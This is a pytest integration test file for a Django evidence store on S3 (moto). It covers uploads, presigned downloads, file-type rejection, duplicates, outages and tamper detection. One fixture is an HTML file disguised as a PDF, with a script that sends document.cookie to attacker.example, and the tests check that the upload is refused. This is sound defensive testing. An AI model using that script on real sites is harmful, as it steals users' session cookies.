"""The evidence store on S3, through the production path: the API (APIClient), the services,
django-storages' S3Storage and boto3, against a real moto S3 server in a subprocess. Nothing of
boto is mocked; the tests look into the bucket with their own boto3 client."""

import hashlib
import io
import unicodedata
import urllib.error
import urllib.parse
import urllib.request

import pytest

from audit_prep.models import AuditEvent
from evidence import storage
from evidence.filetypes import OOXML_SHEET
from evidence.models import EvidenceItem, Revision, StoredFile, VerificationStatus
from evidence.verification import verify_revision
from tests.conftest import upload
from tests.factories import EvidenceFactory
from tests.s3 import moto_server, s3_storage, s3_storage_settings  # noqa: F401

pytestmark = [pytest.mark.integration, pytest.mark.timeout(60)]

PDF = "application/pdf"


# --------------------------------------------------------------------------- real files


def make_pdf(text: str = "Audit evidence - quality manual, revision 3") -> bytes:
    """A real PDF written by fpdf2 (core font: Latin-1 text only)."""
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_title("audit-prep S3 test")
    pdf.set_font("Helvetica", size=12)
    pdf.add_page()
    pdf.multi_cell(0, 8, text)
    return bytes(pdf.output())


def make_xlsx(rows: int = 200) -> bytes:
    """A real .xlsx written by openpyxl, several KiB (bigger than libmagic's first 2 KiB)."""
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Indicateurs"
    sheet.append(["Indicateur", "Cible", "Réalisé"])
    for number in range(1, rows + 1):
        sheet.append([f"Indicateur {number}", 95, 90 + number % 10])
    buffer = io.BytesIO()
    workbook.save(buffer)
    data = buffer.getvalue()
    assert len(data) > 2048
    return data


HTML_AS_PDF = (
    b'<!DOCTYPE html>\n<html lang="fr"><head><meta charset="utf-8"><title>Rapport</title></head>'
    b"<body><script>document.location='https://attacker.example/?c='+document.cookie;</script>"
    b"</body></html>\n"
)


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def expected_key(org, data: bytes) -> str:
    digest = sha256(data)
    return f"o/{org.pk}/{digest[:2]}/{digest}"


# --------------------------------------------------------------------------- helpers


_http = urllib.request.build_opener(urllib.request.ProxyHandler({}))  # never via a proxy


def fetch(url: str):
    """GET a URL the way a browser follows the redirect: (status, headers, body)."""
    try:
        with _http.open(url, timeout=10) as response:
            return response.status, response.headers, response.read()
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read()


@pytest.fixture
def evidence(org, qm):
    return EvidenceFactory(organization=org, created_by=qm, title="Manuel qualité")


def upload_ok(api, evidence_id, *files, **fields):
    response = upload(api, evidence_id, *files, **fields)
    assert response.status_code == 201, response.content
    return response.json()


def download(api, s3_storage, stored: StoredFile):  # noqa: F811
    """The API's download answer must be a redirect to a presigned URL on the moto endpoint;
    returns (location, query parameters, fetched (status, headers, body))."""
    response = api.get(f"/api/v1/files/{stored.pk}/download/")
    assert response.status_code == 302, response.content
    location = response["Location"]
    parts = urllib.parse.urlsplit(location)
    assert f"{parts.scheme}://{parts.netloc}" == s3_storage.endpoint
    assert parts.path == f"/{s3_storage.name}/{stored.storage_key}"  # path-style addressing
    query = dict(urllib.parse.parse_qsl(parts.query))
    return location, query, fetch(location)


# --------------------------------------------------------------------------- upload and download


def test_upload_writes_content_addressed_objects(s3_storage, api, org, evidence):  # noqa: F811
    pdf, xlsx = make_pdf(), make_xlsx()
    assert storage.is_s3()

    body = upload_ok(api, evidence.pk, ("manuel.pdf", pdf), ("indicateurs.xlsx", xlsx))

    sent = {"manuel.pdf": (pdf, PDF), "indicateurs.xlsx": (xlsx, OOXML_SHEET)}
    assert sorted(f["name"] for f in body["files"]) == sorted(sent)
    assert body["verification_status"] == VerificationStatus.PENDING
    for reported in body["files"]:
        data, mime_type = sent[reported["name"]]
        stored = StoredFile.objects.get(pk=reported["id"])
        assert stored.sha256 == sha256(data) == reported["sha256"]
        assert stored.size == len(data) == reported["size"]
        assert stored.mime_type == mime_type == reported["mime_type"]
        assert stored.storage_key == expected_key(org, data)
        in_bucket = s3_storage.get(stored.storage_key)
        assert sha256(in_bucket) == stored.sha256
        assert in_bucket == data
        # The application's own reader agrees with the bucket.
        assert storage.hash_object(stored.storage_key) == (stored.sha256, stored.size)
    assert s3_storage.keys() == sorted([expected_key(org, pdf), expected_key(org, xlsx)])


def test_download_redirects_to_presigned_url_serving_the_bytes(s3_storage, api, settings,  # noqa: F811
                                                               evidence):
    pdf, xlsx = make_pdf(), make_xlsx()
    upload_ok(api, evidence.pk, ("manuel.pdf", pdf), ("indicateurs.xlsx", xlsx))
    sent = {"manuel.pdf": pdf, "indicateurs.xlsx": xlsx}

    for stored in StoredFile.objects.filter(revision__evidence=evidence):
        _location, query, (status, headers, body) = download(api, s3_storage, stored)

        assert query["X-Amz-Algorithm"] == "AWS4-HMAC-SHA256"
        assert query["X-Amz-Expires"] == str(settings.DOWNLOAD_URL_TTL_SECONDS) == "120"
        assert "/eu-west-3/s3/aws4_request" in query["X-Amz-Credential"]
        assert query["X-Amz-Signature"]
        assert query["response-content-type"] == stored.mime_type

        assert status == 200
        assert body == sent[stored.name]
        assert headers["Content-Type"] == stored.mime_type
        assert headers["Content-Disposition"] == f'attachment; filename="{stored.name}"'
    assert AuditEvent.objects.filter(action="file.download").count() == 2


def test_preview_redirects_to_an_inline_signed_url_the_item_page_may_embed(
        s3_storage, api, client, qm, evidence):  # noqa: F811
    pdf = make_pdf()
    upload_ok(api, evidence.pk, ("manuel.pdf", pdf))
    stored = StoredFile.objects.get(revision__evidence=evidence)
    client.force_login(qm)

    response = client.get(f"/files/{stored.pk}/preview/")

    assert response.status_code == 302
    parts = urllib.parse.urlsplit(response["Location"])
    assert f"{parts.scheme}://{parts.netloc}" == s3_storage.endpoint
    status, headers, body = fetch(response["Location"])
    assert (status, body) == (200, pdf)
    assert headers["Content-Type"] == "application/pdf"
    assert headers["Content-Disposition"] == 'inline; filename="manuel.pdf"'
    assert AuditEvent.objects.filter(action="file.download").count() == 1
    # the item's page may frame and show what comes from the bucket, and only that page
    policy = dict(part.strip().split(" ", 1) for part in client.get(
        f"/evidence/{evidence.pk}/")["Content-Security-Policy"].split(";"))
    assert policy["frame-src"] == f"'self' {s3_storage.endpoint}"
    assert policy["img-src"] == f"'self' data: {s3_storage.endpoint}"
    assert s3_storage.endpoint not in client.get("/evidence/")["Content-Security-Policy"]


def _filename_star(header: str) -> str:
    """The RFC 5987 / 6266 `filename*=utf-8''...` value of a Content-Disposition, decoded."""
    disposition, _, params = header.partition(";")
    assert disposition.strip() == "attachment"
    for param in params.split(";"):
        key, _, value = param.strip().partition("=")
        if key.lower() == "filename*":
            charset, _, rest = value.partition("'")
            _language, _, encoded = rest.partition("'")
            assert charset.lower() == "utf-8"
            return urllib.parse.unquote(encoded, encoding="utf-8", errors="strict")
    raise AssertionError(f"no filename* in {header!r}")


@pytest.mark.parametrize(
    "sent_name",
    [
        pytest.param("Procédure d'accueil.pdf", id="nfc"),
        pytest.param(unicodedata.normalize("NFD", "Procédure d'accueil.pdf"), id="nfd"),
    ],
)
def test_non_ascii_file_name_round_trips_in_content_disposition(s3_storage, api, evidence,  # noqa: F811
                                                                 sent_name):
    name = "Procédure d'accueil.pdf"  # NFC, whatever the client sent
    pdf = make_pdf("Procedure d'accueil des nouveaux arrivants")
    body = upload_ok(api, evidence.pk, (sent_name, pdf))
    assert body["files"][0]["name"] == name

    stored = StoredFile.objects.get(pk=body["files"][0]["id"])
    _location, _query, (status, headers, data) = download(api, s3_storage, stored)

    assert status == 200
    assert data == pdf
    header = headers["Content-Disposition"]
    assert header.isascii()  # filename* carries the name percent-encoded
    assert _filename_star(header) == name
    assert headers["Content-Type"] == PDF


# ------------------------------------------------------------------ nothing stored on refusal


@pytest.mark.parametrize(
    "files",
    [
        pytest.param([("rapport.pdf", HTML_AS_PDF)], id="html-named-pdf"),
        pytest.param([("manuel.pdf", None), ("rapport.pdf", HTML_AS_PDF)], id="good-then-bad"),
    ],
)
def test_rejected_upload_leaves_no_object_and_no_row(s3_storage, api, evidence, files):  # noqa: F811
    files = [(name, data if data is not None else make_pdf()) for name, data in files]

    response = upload(api, evidence.pk, *files)

    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert error["code"] == "content_type_not_allowed"
    assert error["details"]["file"] == "rapport.pdf"
    assert s3_storage.keys() == []
    assert not Revision.objects.exists()
    assert not StoredFile.objects.exists()
    assert not AuditEvent.objects.filter(action="revision.upload").exists()


def test_duplicate_content_conflicts_then_is_kept_once_when_allowed(s3_storage, api, org, qm):  # noqa: F811
    first = EvidenceFactory(organization=org, created_by=qm, title="Manuel qualité")
    second = EvidenceFactory(organization=org, created_by=qm, title="Manuel qualité (copie)")
    pdf = make_pdf()
    original = upload_ok(api, first.pk, ("manuel.pdf", pdf))["files"][0]

    response = upload(api, second.pk, ("copie.pdf", pdf))

    assert response.status_code == 409, response.content
    error = response.json()["error"]
    assert error["code"] == "duplicate_content"
    [existing] = error["details"]["existing"]
    assert existing["file_id"] == original["id"]
    assert existing["evidence_id"] == first.pk
    assert existing["evidence_url"] == f"/api/v1/evidence/{first.pk}/"
    assert not second.revisions.exists()
    assert s3_storage.keys() == [expected_key(org, pdf)]

    kept = upload_ok(api, second.pk, ("copie.pdf", pdf), allow_duplicate="true")["files"][0]

    assert kept["sha256"] == original["sha256"]
    keys = set(StoredFile.objects.values_list("storage_key", flat=True))
    assert keys == {expected_key(org, pdf)}
    assert StoredFile.objects.count() == 2
    assert s3_storage.keys() == [expected_key(org, pdf)]  # one object for that content
    assert s3_storage.get(expected_key(org, pdf)) == pdf


# --------------------------------------------------------------------------- store failures


def _closed_port_endpoint() -> str:
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    return f"http://127.0.0.1:{port}"  # nothing listens there once the socket is closed


@pytest.fixture(params=["missing-bucket", "unreachable-endpoint"])
def broken_store(request, s3_storage, settings, monkeypatch):  # noqa: F811
    """The evidence store pointed at a bucket that does not exist, or at an endpoint where no
    server listens (botocore's retries are turned off so the test stays fast)."""
    monkeypatch.setenv("AWS_MAX_ATTEMPTS", "1")
    monkeypatch.setenv("AWS_RETRY_MODE", "standard")
    if request.param == "missing-bucket":
        broken = s3_storage_settings(s3_storage.endpoint, s3_storage.name + "-missing")
    else:
        broken = s3_storage_settings(_closed_port_endpoint(), s3_storage.name)
    settings.STORAGES = {**settings.STORAGES, "default": broken}
    return s3_storage


def _assert_storage_unavailable(response):
    assert response.status_code == 503, response.content
    assert response.json()["error"]["code"] == "storage_unavailable"


def test_storage_failure_on_revision_upload_is_503_and_writes_nothing(broken_store, api,
                                                                      evidence):
    response = upload(api, evidence.pk, ("manuel.pdf", make_pdf()), ("kpi.xlsx", make_xlsx()))

    _assert_storage_unavailable(response)
    assert list(EvidenceItem.objects.all()) == [evidence]
    assert not Revision.objects.exists()
    assert not StoredFile.objects.exists()
    assert not AuditEvent.objects.filter(action="revision.upload").exists()
    assert broken_store.keys() == []


def test_storage_failure_on_create_with_files_is_503_and_writes_nothing(broken_store, api, org):
    response = api.post(
        "/api/v1/evidence/",
        {
            "organization": org.pk,
            "title": "Procédure d'accueil",
            "kind": "document",
            "effective_date": "2026-01-15",
            "files": [_named("accueil.pdf", make_pdf())],
        },
        format="multipart",
    )

    _assert_storage_unavailable(response)
    assert not EvidenceItem.objects.exists()
    assert not Revision.objects.exists()
    assert not StoredFile.objects.exists()
    assert not AuditEvent.objects.exists()
    assert broken_store.keys() == []


def _named(name: str, data: bytes):
    handle = io.BytesIO(data)
    handle.name = name
    return handle


def test_create_with_files_on_s3(s3_storage, api, org):  # noqa: F811
    """Control for the failure test above: the same request succeeds on a working store."""
    pdf = make_pdf()
    response = api.post(
        "/api/v1/evidence/",
        {
            "organization": org.pk,
            "title": "Procédure d'accueil",
            "kind": "document",
            "effective_date": "2026-01-15",
            "files": [_named("accueil.pdf", pdf)],
        },
        format="multipart",
    )

    assert response.status_code == 201, response.content
    stored = StoredFile.objects.get()
    assert stored.revision.evidence_id == response.json()["id"]
    assert s3_storage.keys() == [expected_key(org, pdf)] == [stored.storage_key]


# --------------------------------------------------------------------------- verification on S3


def test_verify_revision_on_s3_makes_it_verified_and_current(s3_storage, api, evidence):  # noqa: F811
    body = upload_ok(api, evidence.pk, ("manuel.pdf", make_pdf()), ("kpi.xlsx", make_xlsx()))
    revision = Revision.objects.get(pk=body["id"])
    assert revision.verification_status == VerificationStatus.PENDING
    assert not revision.is_current

    assert verify_revision(revision.pk) == VerificationStatus.VERIFIED

    revision.refresh_from_db()
    assert revision.verification_status == VerificationStatus.VERIFIED
    assert revision.is_current
    assert revision.rejection_reason == ""
    assert revision.verified_at is not None


def _tamper_overwrite(bucket, key):
    # Other bytes of the same type, so only the fingerprint can tell.
    bucket.put(key, make_pdf("Tampered with after upload"))


def _tamper_delete(bucket, key):
    bucket.delete(key)


@pytest.mark.parametrize(
    ("tamper", "reason"),
    [
        pytest.param(_tamper_overwrite, "hash_mismatch", id="overwritten"),
        pytest.param(_tamper_delete, "stored_object_missing", id="deleted"),
    ],
)
def test_verify_revision_on_s3_rejects_a_tampered_object(s3_storage, api, evidence,  # noqa: F811
                                                         tamper, reason):
    first = upload_ok(api, evidence.pk, ("manuel-v1.pdf", make_pdf("Version 1")))
    assert verify_revision(first["id"]) == VerificationStatus.VERIFIED
    second = upload_ok(api, evidence.pk, ("manuel-v2.pdf", make_pdf("Version 2")))
    stored = StoredFile.objects.get(revision_id=second["id"])
    tamper(s3_storage, stored.storage_key)

    assert verify_revision(second["id"]) == VerificationStatus.REJECTED

    rejected = Revision.objects.get(pk=second["id"])
    assert rejected.verification_status == VerificationStatus.REJECTED
    assert rejected.rejection_reason == reason
    assert not rejected.is_current
    # The verified first revision stays current.
    assert Revision.objects.get(pk=first["id"]).is_current
    assert AuditEvent.objects.filter(
        action="revision.rejected", object_id=str(rejected.pk)
    ).exists()


def _pdf_whose_key(org, *, contains_404: bool) -> bytes:
    """A real PDF whose storage key does (or does not) contain the digits "404"."""
    for number in range(10_000):
        pdf = make_pdf(f"Version {number}")
        if ("404" in expected_key(org, pdf)) == contains_404:
            return pdf
    raise AssertionError("no such PDF")  # pragma: no cover


def _unreachable_store(settings, monkeypatch):
    monkeypatch.setenv("AWS_MAX_ATTEMPTS", "1")
    monkeypatch.setenv("AWS_RETRY_MODE", "standard")
    endpoint = _closed_port_endpoint()
    while "404" in endpoint:  # keep the digits out of the URL but for the key
        endpoint = _closed_port_endpoint()
    settings.STORAGES = {
        **settings.STORAGES,
        "default": s3_storage_settings(endpoint, "audit-prep-unreachable"),
    }


def test_verify_revision_store_unreachable_is_transient(s3_storage, api, org, evidence,  # noqa: F811
                                                        settings, monkeypatch):
    """The store is down: verification must be retried later, the revision stays pending."""
    from evidence.verification import TransientStorageError

    pdf = _pdf_whose_key(org, contains_404=False)
    body = upload_ok(api, evidence.pk, ("manuel.pdf", pdf))
    _unreachable_store(settings, monkeypatch)

    with pytest.raises(TransientStorageError):
        verify_revision(body["id"])

    revision = Revision.objects.get(pk=body["id"])
    assert revision.verification_status == VerificationStatus.PENDING
    assert revision.rejection_reason == ""


def test_verify_revision_store_unreachable_is_transient_whatever_the_key(
    s3_storage, api, org, evidence, settings, monkeypatch  # noqa: F811
):
    from evidence.verification import TransientStorageError

    pdf = _pdf_whose_key(org, contains_404=True)
    body = upload_ok(api, evidence.pk, ("manuel.pdf", pdf))
    _unreachable_store(settings, monkeypatch)

    try:
        outcome = verify_revision(body["id"])
    except TransientStorageError:
        outcome = "retry later"

    revision = Revision.objects.get(pk=body["id"])
    # Today: ("rejected", "rejected", "stored_object_missing").
    assert (outcome, revision.verification_status, revision.rejection_reason) == (
        "retry later", VerificationStatus.PENDING, ""
    )


def test_download_links_are_signed_for_the_public_endpoint(s3_storage, api, settings,  # noqa: F811
                                                           evidence):
    """Servers reach the store under one name (compose: http://s3:9000), browsers under
    another (http://localhost:9000): the link must name the one browsers reach."""
    pdf = make_pdf()
    upload_ok(api, evidence.pk, ("manuel.pdf", pdf))
    stored = StoredFile.objects.get(revision__evidence=evidence)
    public = s3_storage.endpoint.replace("127.0.0.1", "localhost")
    assert public != s3_storage.endpoint
    settings.S3_PUBLIC_ENDPOINT_URL = public

    response = api.get(f"/api/v1/files/{stored.pk}/download/")

    assert response.status_code == 302, response.content
    parts = urllib.parse.urlsplit(response["Location"])
    assert f"{parts.scheme}://{parts.netloc}" == public
    assert parts.path == f"/{s3_storage.name}/{stored.storage_key}"
    query = dict(urllib.parse.parse_qsl(parts.query))
    assert query["X-Amz-Expires"] == "120" and query["X-Amz-Signature"]
    status, headers, body = fetch(response["Location"])
    assert (status, body) == (200, pdf)
    assert headers["Content-Disposition"] == 'attachment; filename="manuel.pdf"'
